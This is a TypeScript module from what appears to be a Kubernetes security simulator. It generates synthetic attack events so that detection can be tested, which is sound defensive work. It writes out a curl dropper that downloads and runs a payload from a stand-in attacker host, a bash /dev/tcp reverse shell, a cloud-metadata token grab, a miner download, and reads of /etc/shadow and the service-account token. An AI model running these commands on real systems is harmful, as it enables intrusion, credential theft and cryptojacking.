import type { Command } from '../cluster/profile.ts';
import { ATTACKER } from '../cluster/services.ts';
import type { SimContainer } from '../model/types.ts';
import type { Prng } from '../prng.ts';
import { repeat } from './repeat.ts';
import { runCommand } from './run-command.ts';
import { runSession } from './sessions.ts';
import { msBetween, poissonDelay, type World } from './world.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Remote code execution in the app: download to /tmp, make it executable, run it. */
function dropper(): Command {
  const url = `http://${ATTACKER.dropper}:8080/x`;
  return {
    binary: '/bin/sh',
    args: `-c "curl -fsSL ${url} -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x"`,
    children: [
      {
        binary: '/usr/bin/curl',
        args: `-fsSL ${url} -o /tmp/.x`,
        runMs: [200, 1500],
        kprobes: [
          { kind: 'connect', daddr: ATTACKER.dropper, dport: 8080 },
          { kind: 'file', path: '/tmp/.x', write: true },
        ],
      },
      { binary: '/usr/bin/chmod', args: '+x /tmp/.x' },
      {
        binary: '/tmp/.x',
        runMs: [20_000, 90_000],
        threads: 3,
        kprobes: [
          { kind: 'connect', daddr: ATTACKER.c2, dport: 4444 },
          { kind: 'file', path: '/etc/shadow' },
          { kind: 'file', path: TOKEN },
        ],
        exit: { signal: 'SIGKILL' },
      },
    ],
    // The shell reports its killed child as 128 + 9.
    exit: { status: 137 },
  };
}

/** A reverse shell: bash execs an interactive bash in place, wired to a remote socket. */
function reverseShell(): Command {
  return {
    binary: '/bin/bash',
    args: `-c "bash -i >& /dev/tcp/${ATTACKER.reverseShell}/9001 0>&1"`,
    then: {
      binary: '/bin/bash',
      args: '-i',
      kprobes: [{ kind: 'connect', daddr: ATTACKER.reverseShell, dport: 9001 }],
      pauseMs: [2_000, 15_000],
      children: [
        { binary: '/usr/bin/id' },
        { binary: '/usr/bin/uname', args: '-a' },
        { binary: '/usr/bin/cat', args: '/etc/shadow', exit: { status: 1 } },
        { binary: '/usr/bin/cat', args: TOKEN, kprobes: [{ kind: 'file', path: TOKEN }] },
      ],
      runMs: [1_000, 30_000],
    },
  };
}

/** An operator (or an intruder with kubectl) fetching and running a miner from /tmp. */
function minerSession(rng: Prng): Command[] {
  const miner = '/tmp/kdevtmpfsi';
  return [
    { binary: '/usr/bin/id' },
    {
      binary: '/usr/bin/cat',
      args: '/etc/passwd',
      kprobes: [{ kind: 'file', path: '/etc/passwd' }],
    },
    {
      binary: '/usr/bin/curl',
      args: '-s -H "Metadata-Flavor: Google" http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',
      kprobes: [{ kind: 'connect', daddr: '169.254.169.254', dport: 80 }],
      exit: rng.chance(0.5) ? { status: 22 } : {},
    },
    {
      binary: '/usr/bin/wget',
      args: `-q -O ${miner} http://${ATTACKER.c2}/kdevtmpfsi`,
      runMs: [300, 2_500],
      kprobes: [
        { kind: 'connect', daddr: ATTACKER.c2, dport: 80 },
        { kind: 'file', path: miner, write: true },
      ],
    },
    { binary: '/usr/bin/chmod', args: `+x ${miner}` },
    {
      binary: miner,
      args: `-o stratum+tcp://${ATTACKER.c2}:3333 -k --donate-level 1`,
      runMs: [5_000, 60_000],
      threads: 8,
      kprobes: [{ kind: 'connect', daddr: ATTACKER.c2, dport: 3333 }],
      exit: { signal: 'SIGSEGV' },
    },
  ];
}

function targets(world: World): SimContainer[] {
  const out: SimContainer[] = [];
  for (const node of world.nodes) {
    for (const pod of node.pods) {
      const c = pod.container;
      if (c?.alive === true && c.main?.alive === true && pod.profile.sessionCommands.length > 0) {
        out.push(c);
      }
    }
  }
  return out;
}

function runScenario(world: World): void {
  const { engine, rng } = world;
  const candidates = targets(world);
  if (candidates.length === 0) return;
  const container = rng.pick(candidates);
  const scenario = rng.weighted([
    ['dropper', 4],
    ['miner', 4],
    ['reverse-shell', 2],
  ] as const);
  if (scenario === 'miner') {
    runSession(world, container, engine.now, minerSession(rng));
    return;
  }
  const workers = container.workers.filter((w) => w.alive);
  const source = workers.length > 0 ? rng.pick(workers) : container.main;
  if (source === undefined) return;
  const lineage = { container, inInitTree: true, maybeExecProbe: false };
  runCommand(
    engine,
    source,
    scenario === 'dropper' ? dropper() : reverseShell(),
    engine.now,
    lineage,
  );
}

/** Rare attack-like activity somewhere in the cluster; the first one comes early. */
export function startSuspiciousActivity(world: World, meanIntervalS: number): void {
  repeat(
    world.engine,
    undefined,
    msBetween(world, 60_000, 150_000),
    () => poissonDelay(world, meanIntervalS),
    () => runScenario(world),
  );
}
